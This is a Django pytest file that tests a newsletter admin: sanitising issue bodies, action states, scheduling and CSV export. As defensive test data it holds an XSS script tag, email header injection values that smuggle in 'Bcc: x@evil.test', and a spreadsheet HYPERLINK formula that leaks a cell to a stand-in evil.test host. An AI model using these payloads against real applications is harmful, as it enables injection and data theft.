import csv
import datetime
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core import mail as outbox
from django.utils import timezone

from newsletters.models import ConsentRecord, Issue, NewsletterList, Subscriber

from .factories import (
    IssueFactory,
    NewsletterListFactory,
    SubscriberFactory,
    newsletter_editor,
    subscribe,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def editor_client(client):
    editor = newsletter_editor()
    client.force_login(editor)
    client.editor = editor
    return client


def action_url(issue, action):
    return f"/admin/newsletters/issue/{issue.pk}/{action}/"


def test_an_editor_writes_an_issue_and_its_body_is_sanitised(editor_client):
    newsletter = NewsletterListFactory()
    response = editor_client.post(
        "/admin/newsletters/issue/add/",
        {
            "newsletter": newsletter.pk,
            "subject": "March news",
            "preheader": "",
            "body": '<p onclick="x()">Hello<script>alert(1)</script></p>',
        },
    )
    assert response.status_code == 302
    issue = Issue.objects.get()
    assert issue.body == "<p>Hello</p>"
    assert issue.created_by == editor_client.editor
    assert issue.status == Issue.Status.DRAFT


ONE_LINE = "Write this on one line"


def test_an_issue_subject_on_two_lines_is_refused_and_nothing_saved(editor_client):
    newsletter = NewsletterListFactory()
    response = editor_client.post(
        "/admin/newsletters/issue/add/",
        {
            "newsletter": newsletter.pk,
            "subject": "March news\r\nBcc: x@evil.test",
            "preheader": "Also\u2028this",
            "body": "<p>Hello</p>",
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors.keys() == {"subject", "preheader"}
    assert ONE_LINE in response.content.decode()
    assert not Issue.objects.exists()


def test_a_list_name_on_two_lines_is_refused_in_every_language(editor_client):
    data = {"slug": "global", "language": "en", "is_active": "on", "order": 0}
    names = {f"name_{code}": f"Global {code}" for code in ("en", "fr", "es", "ar")}
    for field in names:
        response = editor_client.post(
            "/admin/newsletters/newsletterlist/add/",
            {**data, **names, field: "Global\nBcc: x@evil.test"},
        )
        assert response.status_code == 200
        assert response.context["adminform"].form.errors.keys() == {field}
        assert ONE_LINE in response.content.decode()
    assert not NewsletterList.objects.exists()
    response = editor_client.post("/admin/newsletters/newsletterlist/add/", {**data, **names})
    assert response.status_code == 302
    assert NewsletterList.objects.get().name_ar == "Global ar"


def test_a_subscriber_name_on_two_lines_is_refused(editor_client):
    subscriber = SubscriberFactory(email="bob@example.org", name="Bob")
    response = editor_client.post(
        f"/admin/newsletters/subscriber/{subscriber.pk}/change/",
        {
            "email": "bob@example.org",
            "name": "Bob\r\nBcc: x@evil.test",
            "language": "en",
            **inline_management("subscriptions", "consents"),
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors.keys() == {"name"}
    subscriber.refresh_from_db()
    assert subscriber.name == "Bob"


def inline_management(*prefixes):
    data = {}
    for prefix in prefixes:
        data.update({f"{prefix}-TOTAL_FORMS": 0, f"{prefix}-INITIAL_FORMS": 0})
    return data


def test_send_now_asks_for_confirmation_then_starts_sending(
    editor_client, _no_broker, django_capture_on_commit_callbacks
):
    newsletter = NewsletterListFactory()
    subscribe(SubscriberFactory(), newsletter)
    subscribe(SubscriberFactory(status="pending"), newsletter)
    issue = IssueFactory(newsletter=newsletter)
    page = editor_client.get(f"/admin/newsletters/issue/{issue.pk}/change/").content.decode()
    assert action_url(issue, "send") in page
    confirm = editor_client.get(action_url(issue, "send"))
    assert confirm.status_code == 200
    assert "Confirmed subscribers of the list: 1" in confirm.content.decode()
    issue.refresh_from_db()
    assert issue.status == Issue.Status.DRAFT
    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(action_url(issue, "send"))
    assert response["Location"] == f"/admin/newsletters/issue/{issue.pk}/progress/"
    issue.refresh_from_db()
    assert issue.status == Issue.Status.SENDING
    assert issue.deliveries.count() == 1
    assert _no_broker == [issue.pk]

    progress = editor_client.get(response["Location"]).content.decode()
    assert '<progress id="send-progress" max="1" value="0"' in progress
    assert 'data-progress-polling="true"' in progress and "http-equiv" not in progress
    assert action_url(issue, "pause") in progress


def test_an_action_the_state_refuses_changes_nothing_and_says_why(editor_client):
    issue = IssueFactory()
    response = editor_client.post(action_url(issue, "pause"), follow=True)
    assert "Cannot pause an issue that is draft." in response.content.decode()
    issue.refresh_from_db()
    assert issue.status == Issue.Status.DRAFT


def test_scheduling_needs_a_future_time(editor_client):
    issue = IssueFactory()
    past = editor_client.post(action_url(issue, "schedule"), {"when": "2001-01-01T10:00"})
    assert past.status_code == 400
    assert "Choose a time in the future" in past.content.decode()
    when = (timezone.now() + datetime.timedelta(days=1)).replace(second=0, microsecond=0)
    response = editor_client.post(
        action_url(issue, "schedule"), {"when": when.strftime("%Y-%m-%dT%H:%M")}
    )
    assert response.status_code == 302
    issue.refresh_from_db()
    assert (issue.status, issue.scheduled_at) == (Issue.Status.SCHEDULED, when)


def test_preview_and_test_copy(editor_client, eager_celery, django_capture_on_commit_callbacks):
    issue = IssueFactory(subject="April news", body="<p>Body text</p>")
    preview = editor_client.get(f"/admin/newsletters/issue/{issue.pk}/preview/")
    assert preview.status_code == 200
    assert "April news" in preview.content.decode()
    assert preview["Content-Security-Policy"] == "script-src 'none'"
    with django_capture_on_commit_callbacks(execute=True):
        response = editor_client.post(f"/admin/newsletters/issue/{issue.pk}/test/")
    assert response.status_code == 302
    assert len(outbox.outbox) == 1
    message = outbox.outbox[0]
    assert message.to == [editor_client.editor.email]
    assert message.subject == "[TEST] April news"
    assert message.extra_headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"


def test_people_without_the_newsletter_group_cannot_send(client, _no_broker):
    from tests.initiatives.factories import content_editor

    client.force_login(content_editor())
    issue = IssueFactory()
    assert client.post(action_url(issue, "send")).status_code == 403
    issue.refresh_from_db()
    assert issue.status == Issue.Status.DRAFT


def test_subscribers_export_as_csv_with_their_lists(editor_client):
    newsletter = NewsletterListFactory(slug="global")
    subscribe(SubscriberFactory(email="a@example.org", name="Ana"), newsletter)
    SubscriberFactory(email="b@example.org", status="pending")
    response = editor_client.post(
        "/admin/newsletters/subscriber/",
        {
            "action": "export_csv",
            ACTION_CHECKBOX_NAME: Subscriber.objects.values_list("pk", flat=True),
        },
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode().splitlines()
    assert lines[0] == "email,name,language,status,lists,subscribed,confirmed"
    assert any(line.startswith("a@example.org,Ana,en,confirmed,global,") for line in lines)
    assert any(line.startswith("b@example.org,,en,pending,,") for line in lines)


def test_a_name_written_as_a_formula_is_exported_as_text(editor_client):
    """A spreadsheet opening the export shows the name as typed; it never runs it."""
    newsletter = NewsletterListFactory(slug="global")
    names = {
        "f@example.org": '=HYPERLINK("http://evil.test/?leak="&A2,"Click")',
        "p@example.org": "+1 555 0100",
        "m@example.org": "-2+3",
        "a@example.org": "@SUM(A1:A9)",
        "plain@example.org": "Ana = Anne",
    }
    for email, name in names.items():
        subscribe(SubscriberFactory(email=email, name=name), newsletter)
    response = editor_client.post(
        "/admin/newsletters/subscriber/",
        {
            "action": "export_csv",
            ACTION_CHECKBOX_NAME: Subscriber.objects.values_list("pk", flat=True),
        },
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    exported = {row["email"]: row["name"] for row in rows}
    assert exported == {
        email: name if email == "plain@example.org" else "'" + name for email, name in names.items()
    }


def test_erasing_a_subscriber_asks_first(editor_client):
    subscriber = subscribe(SubscriberFactory(email="gone@example.org"), NewsletterListFactory())
    ConsentRecord.objects.create(subscriber=subscriber, action="requested", text="I agree.")
    data = {"action": "erase", ACTION_CHECKBOX_NAME: [subscriber.pk]}
    confirm = editor_client.post("/admin/newsletters/subscriber/", data)
    assert confirm.status_code == 200
    assert "gone@example.org" in confirm.content.decode()
    assert Subscriber.objects.exists()
    response = editor_client.post("/admin/newsletters/subscriber/", {**data, "confirmed": "yes"})
    assert response.status_code == 302
    assert not Subscriber.objects.exists()
    assert not ConsentRecord.objects.exists()


def test_the_subscriber_page_shows_the_consent_record(editor_client):
    subscriber = SubscriberFactory()
    ConsentRecord.objects.create(
        subscriber=subscriber, action="requested", form="footer", text="I agree to receive."
    )
    page = editor_client.get(f"/admin/newsletters/subscriber/{subscriber.pk}/change/")
    assert page.status_code == 200
    assert "I agree to receive." in page.content.decode()
    assert "Page footer" in page.content.decode()


def test_an_issue_page_offers_only_the_actions_its_state_allows(editor_client):
    actions = ("send", "schedule", "pause", "resume", "cancel")
    expected = {
        "draft": {"send", "schedule", "cancel"},
        "scheduled": {"send", "schedule", "cancel"},
        "sending": {"pause", "cancel"},
        "paused": {"resume", "cancel"},
        "sent": set(),
        "cancelled": set(),
    }
    for status, offered in expected.items():
        issue = IssueFactory(status=status)
        page = editor_client.get(f"/admin/newsletters/issue/{issue.pk}/change/")
        html = page.content.decode()
        assert {action for action in actions if action_url(issue, action) in html} == offered


def test_a_link_to_an_action_the_state_no_longer_allows_says_why(editor_client):
    """A page left open offered "Pause"; the issue has since been sent."""
    issue = IssueFactory(status="sent")
    response = editor_client.get(action_url(issue, "pause"), follow=True)
    assert response.redirect_chain == [(f"/admin/newsletters/issue/{issue.pk}/change/", 302)]
    assert "Cannot pause an issue that is sent." in response.content.decode()
    issue.refresh_from_db()
    assert issue.status == Issue.Status.SENT


def test_an_action_from_the_admin_is_in_the_audit_trail_once(editor_client, _no_broker):
    from common import audit

    issue = IssueFactory(subject="June news")
    editor_client.post(action_url(issue, "send"))
    assert [entry.get_change_message() for entry in audit.trail_for(issue)] == ["send: June news"]
